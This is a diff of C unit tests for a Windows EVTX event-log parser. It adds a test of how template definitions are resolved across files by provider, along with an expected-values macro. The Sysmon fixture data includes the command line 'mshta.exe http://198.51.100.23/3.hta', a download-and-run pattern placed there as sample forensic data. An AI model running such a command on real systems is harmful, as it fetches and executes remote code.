@@ -1267,6 +1267,12 @@ tpl_read(const struct evtxw_event *evs, size_t n, struct tpl_seen *s,
 	evtxw_free(w);
 }
 
+/* The slack Sysmon 1's values by position (template: unresolved). */
+#define POSITIONAL_PAIRS "#1=-;#2=2024-03-05 09:00:30.000;" \
+	"#3={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};#4=9512;" \
+	"#5=C:\\Windows\\System32\\mshta.exe;" \
+	"#6=mshta.exe http://198.51.100.23/3.hta;"
+
 /*
  * The definition at the instance's offset is another template (another
  * identifier) and the chunk holds none with its identifier: the values
@@ -1282,10 +1288,7 @@ START_TEST(template_verify_reject)
 	tpl_read(&ev, 1, &s, &st);
 	ck_assert_int_eq(s.recovered, 1);
 	ck_assert(s.unresolved);
-	ck_assert_str_eq(s.pairs, "#1=-;#2=2024-03-05 09:00:30.000;"
-	    "#3={A1B2C3D4-0054-DEAE-0000-0000127A1FA8};#4=9512;"
-	    "#5=C:\\Windows\\System32\\mshta.exe;"
-	    "#6=mshta.exe http://198.51.100.23/3.hta;");
+	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
 	ck_assert_uint_eq(st.unresolved, 1);
 	evtx_stats_release(&st);
 }
@@ -1384,7 +1387,9 @@ static const struct evtxw_data tpl_misfit[] = {
 struct late_ev {
 	char		 what;		/* 'p' tpl_proc2, 'f' tpl_forged,
 					   'm' tpl_misfit, 'n' tpl_net,
-					   's' the slack Sysmon 1 */
+					   'o' tpl_proc2 of another
+					   provider, 's' the slack
+					   Sysmon 1 */
 	bool		 newchunk;
 };
 
@@ -1445,6 +1450,12 @@ late_read(const struct late_ev *const *spec, const size_t *nspec, size_t nf,
 			case 'n':
 				tpl_event(&ev, 3, recid, tpl_net,
 				    NELEM(tpl_net), fl);
+				break;
+			case 'o':
+				tpl_event(&ev, 1, recid, tpl_proc2,
+				    NELEM(tpl_proc2), fl);
+				ev.provider = "Contoso-Audit";
+				ev.channel = "Contoso-Audit/Operational";
 				break;
 			default:
 				tpl_event(&ev, 1, recid, tpl_proc,
@@ -1533,6 +1544,35 @@ START_TEST(template_cross_file)
 	ck_assert(!s.unresolved);
 	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
 	late_read(spec, n, 2, rev, true, true, false, &s);
+	ck_assert(!s.unresolved);
+	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
+}
+END_TEST
+
+/*
+ * Another file's definition is taken only from a chunk that holds a
+ * record of the record's provider: one in a log of another provider is
+ * passed over (positional when none other is there), also when that file
+ * comes first; the same for any reading order.
+ */
+START_TEST(template_cross_file_provider)
+{
+	static const struct late_ev other[] = { { 'o', false } };
+	static const struct late_ev slack[] = { { 'n', false }, { 's', false } };
+	static const struct late_ev real[] = { { 'p', false } };
+	const struct late_ev *a[] = { other, slack }, *b[] = { other, slack,
+	    real };
+	size_t na[] = { 1, 2 }, nb[] = { 1, 2, 1 }, rev[] = { 2, 1, 0 };
+	struct tpl_seen s;
+
+	late_read(a, na, 2, NULL, false, true, false, &s);
+	ck_assert_int_eq(s.recovered, 1);
+	ck_assert(s.unresolved);
+	ck_assert_str_eq(s.pairs, POSITIONAL_PAIRS);
+	late_read(b, nb, 3, NULL, false, true, false, &s);
+	ck_assert(!s.unresolved);
+	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
+	late_read(b, nb, 3, rev, true, true, false, &s);
 	ck_assert(!s.unresolved);
 	ck_assert_str_eq(s.pairs, NAMED_PAIRS);
 }
@@ -1635,6 +1675,7 @@ evtx_suite(void)
 	tcase_add_test(tc, template_tokens_misfit);
 	tcase_add_test(tc, template_cross_chunk);
 	tcase_add_test(tc, template_cross_file);
+	tcase_add_test(tc, template_cross_file_provider);
 	tcase_add_test(tc, template_tie_break);
 	suite_add_tcase(s, tc);
 	return s;
